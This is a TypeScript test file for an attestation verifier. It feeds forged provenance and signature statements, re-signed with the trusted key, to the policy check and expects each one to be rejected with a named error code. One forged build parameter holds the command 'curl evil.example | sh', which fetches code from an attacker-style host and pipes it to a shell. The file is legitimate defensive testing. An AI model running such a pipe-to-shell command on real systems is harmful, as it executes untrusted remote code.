/** Statements of the trusted key that say less than the policy asks: another type, another builder, a "no". */
import { COSIGN_SIGNATURE } from '../../src/attest/predicate-types.ts';
import { type Asked, type BundleAttack, bundleAttacks, type Stage } from '../support/attack.ts';
import { signPayload } from '../support/signed-image.ts';

type Json = Record<string, unknown>;

/** The genuine statement, changed and then signed with the trusted key. */
function resigned(change: (statement: Json, stage: Stage) => void): BundleAttack['forge'] {
  return async (stage) => {
    const { dsseEnvelope } = JSON.parse(Buffer.from(stage.genuine).toString());
    const statement = JSON.parse(Buffer.from(dsseEnvelope.payload, 'base64').toString());
    change(statement, stage);
    return signPayload(JSON.stringify(statement), stage.key);
  };
}

/** As `resigned`, with the changed predicate alone. */
const saying = (predicate: object): BundleAttack['forge'] =>
  resigned((statement) => Object.assign(statement, { predicate }));

const SIGNATURE: Asked = { type: 'cosign', predicate: {} };

bundleAttacks('one type for another', [
  {
    name: 'a bill of materials offered as a signature',
    code: 'predicate-type',
    asked: SIGNATURE,
    forge: resigned((statement) =>
      Object.assign(statement, { predicateType: 'https://spdx.dev/Document', predicate: { packages: [] } }),
    ),
  },
  {
    name: 'a signature offered as a declaration',
    code: 'predicate-type',
    forge: resigned((statement) =>
      Object.assign(statement, { predicateType: COSIGN_SIGNATURE, predicate: {} }),
    ),
  },
]);

const WORKFLOW_BUILD = 'https://actions.github.io/buildtypes/workflow/v1';
const BUILDER = 'https://builder.example/release';
const SOURCE = 'https://git.example/acme/notes';

function provenance(builder: string, externalParameters: object, more: object = {}): object {
  return {
    buildDefinition: { buildType: WORKFLOW_BUILD, externalParameters, ...more },
    runDetails: { builder: { id: builder } },
  };
}

/** SLSA Provenance v1 of a workflow: where it stands, and which commit was checked out. */
const workflow = (repository: string, ref = 'refs/tags/v1'): object => ({
  workflow: { repository, ref, path: '.ci/release.yml' },
});
const FROM_SOURCE: Asked = {
  type: 'provenance',
  predicate: provenance(BUILDER, workflow(SOURCE)),
  members: `, builder: "${BUILDER}", sourceRepository: "${SOURCE}", sourceRef: "refs/tags/*"`,
};

bundleAttacks('provenance', [
  {
    name: 'by another builder',
    code: 'builder-mismatch',
    asked: FROM_SOURCE,
    forge: saying(provenance(`${BUILDER}-evil`, workflow(SOURCE))),
  },
  {
    name: 'by a builder whose name begins otherwise',
    code: 'builder-mismatch',
    asked: FROM_SOURCE,
    forge: saying(provenance(`https://evil.example/?${BUILDER}`, workflow(SOURCE))),
  },
  {
    name: 'from another source repository',
    code: 'source-mismatch',
    asked: FROM_SOURCE,
    forge: saying(provenance(BUILDER, workflow('https://git.example/acme-evil/notes'))),
  },
  {
    name: 'from another repository beside the right one',
    code: 'source-mismatch',
    asked: FROM_SOURCE,
    forge: saying(
      provenance(BUILDER, workflow(SOURCE), {
        resolvedDependencies: [{ uri: 'git+https://git.example/acme-evil/notes@refs/tags/v1' }],
      }),
    ),
  },
  {
    name: 'from a branch',
    code: 'source-mismatch',
    asked: FROM_SOURCE,
    forge: saying(provenance(BUILDER, workflow(SOURCE, 'refs/heads/main'))),
  },
  {
    name: 'from nowhere',
    code: 'source-mismatch',
    asked: FROM_SOURCE,
    forge: saying(provenance(BUILDER, {})),
  },
  { name: 'without a builder', code: 'builder-mismatch', asked: FROM_SOURCE, forge: saying({}) },
]);

const BARE: Asked = {
  type: 'provenance',
  predicate: provenance(BUILDER, workflow(SOURCE)),
  members: `, where: "predicate.buildDefinition.externalParameters.all(name, name == 'workflow')"`,
};

bundleAttacks('parameters of a build', [
  {
    name: 'with a parameter more',
    code: 'condition-false',
    asked: BARE,
    forge: saying(provenance(BUILDER, { ...workflow(SOURCE), script: 'curl evil.example | sh' })),
  },
  { name: 'without what the condition reads', code: 'condition-false', asked: BARE, forge: saying({}) },
]);
